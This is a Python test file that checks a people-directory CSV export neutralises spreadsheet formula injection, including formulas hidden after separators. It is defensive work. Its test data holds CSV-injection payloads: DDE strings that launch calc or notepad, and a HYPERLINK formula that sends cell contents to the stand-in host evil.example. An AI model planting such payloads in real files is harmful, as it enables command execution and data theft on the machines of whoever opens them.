"""Issue 13, point 4: a CSV export opened in a spreadsheet runs no formula.

Names, companies and titles come from other people's profiles. A cell beginning with =,
+, -, @, a tab or a carriage return is neutralised with a leading single quote (OWASP's
advice); a cell that is a plain number stays a number.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from tests.services.conftest import Cli

from netview.io.people_csv import inert, write_people_csv
from netview.store.db import open_database
from netview.store.models import Note, Person

HOSTILE = {
    "name": "=cmd|' /C calc'!A0",
    "company": '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "position": "@SUM(A1:A9)",
    "email": "+1+cmd|' /C notepad'!A0",
    "url": "-2+3+cmd|' /C calc'!A0",
}


def test_hostile_cells_are_text_and_numbers_stay_numbers(net: Cli, tmp_path: Path) -> None:
    db = open_database(net.db)
    with db.session() as s:
        someone = s.scalars(select(Person).order_by(Person.id).offset(5).limit(1)).one()
        key = someone.key
        for field, value in HOSTILE.items():
            setattr(someone, field, value)
        s.add(Note(person_id=someone.id, body="\tTAB", created_at=someone.created_at,
                   updated_at=someone.created_at))  # fmt: skip
    db.dispose()
    out = tmp_path / "people.csv"
    status, _, err = net("export", "csv", "-o", out)
    assert status == 0, err
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    row = next(r for r in rows if r["key"] == key)
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value, field  # shown as the text it is, never run
    assert row["notes"].startswith("'\t")
    for r in rows:
        for column, cell in r.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert _number(cell), (column, cell)  # only a number may start so
    # Tie strength and degree are numbers and read back as numbers.
    assert all(float(r["strength"]) >= 0 and int(r["degree"]) >= 0 for r in rows if r["degree"])


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_plain_numbers_are_left_alone() -> None:
    for number in ("-3", "+44", "-0.25", "1e-3", "-.5", "42"):
        assert inert(number) == number
    for formula in ("-3+A1", "+44 20 7946 0958", "=1", "@A1", "\t1", "\r=1", "-", "+"):
        assert inert(formula).startswith("'") and inert(formula).replace("'", "") == formula
    assert inert("\r=1") == "'\r'=1"  # and a line split at the carriage return runs nothing


@given(cells=st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_any_cell_reads_back_as_text_a_spreadsheet_will_not_run(cells: list[str]) -> None:
    columns = [f"c{i}" for i in range(len(cells))]
    out = io.StringIO()
    write_people_csv(columns, [dict(zip(columns, cells, strict=True))], out)
    back = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for column, cell in zip(columns, cells, strict=True):
        got = back[column]
        assert not got.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(got)
        assert got.replace("'", "") == cell.replace("'", "")  # nothing lost but quotes added
        _no_formula_however_split(got)


SPLITS = (";", "\t", ",", "|", "\n", "\r")


def _no_formula_however_split(text: str) -> None:
    """Split on any separator a spreadsheet may use: no piece after one starts a formula."""
    for sep in SPLITS:
        for piece in text.split(sep)[1:]:
            bare = piece.lstrip(' "')
            live = bare.startswith(("=", "+", "-", "@")) and not _number(bare.rstrip(' "'))
            assert not live, (sep, text, piece)


def test_a_formula_after_a_separator_is_text_in_a_semicolon_spreadsheet() -> None:
    """Issue 21.6: `Acme;=1+1` was written as it is; German Excel split it into a live =1+1."""
    cells = {
        "semicolon": "Acme;=1+1",
        "tab": "Acme\t=1+1",
        "comma": 'Acme,=HYPERLINK("x")',
        "pipe": "Acme|@SUM(A1:A9)",
        "spaced": "Acme;  -2+3",
        "newline": "Acme\n+cmd",
    }
    out = io.StringIO()
    write_people_csv(list(cells), [cells], out)
    _no_formula_however_split(out.getvalue())
    back = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert back["semicolon"] == "Acme;'=1+1"
    assert back["tab"] == "Acme\t'=1+1"
    assert back["comma"] == 'Acme,\'=HYPERLINK("x")'
    assert back["spaced"] == "Acme;'  -2+3"
    # Numbers after a separator stay numbers; plain text is untouched.
    assert inert("1;-3;+4.5") == "1;-3;+4.5"
    assert inert("Acme; Inc.") == "Acme; Inc."
